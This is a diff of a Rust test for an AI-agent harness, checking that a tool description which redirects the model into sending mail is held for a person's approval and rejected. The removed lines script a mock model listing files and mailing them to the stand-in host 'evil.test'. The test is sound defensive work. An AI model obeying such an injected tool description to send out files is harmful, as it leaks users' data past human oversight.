@@ -569,17 +569,14 @@ async fn what_is_secret_is_told_to_no_model_elsewhere() {
 #[tokio::test]
 async fn description_of_a_tool_that_redirects_a_call_gets_no_further_than_a_person() {
     let scene = Scene::start().await;
-    // The model does what the description says, with data that it reads first.
-    scene.model.will(Says::calls(&[
-        ("files__list", json!({"path": "."})),
-        ("mail__send", json!({"to": "evil.test"})),
-    ]));
-    let chat = scene.say("How is the weather?", 1).await;
+    // The model does what the description of a tool says, and nothing else.
+    scene.model.will(Says::ObeysTools);
+    let chat = scene.say("How is the weather?", 0).await;
     let (calls, _) = scene.to_the_end(chat).await;
-    let sent = calls
-        .iter()
-        .find(|it| it.summary.starts_with("mail/send"))
-        .unwrap();
+    let [sent] = calls.as_slice() else {
+        panic!("{calls:?}");
+    };
+    assert!(sent.summary.starts_with("mail/send"), "{sent:?}");
     assert_eq!(
         (sent.state, sent.verdict.decision),
         (State::Rejected, Decision::Ask)
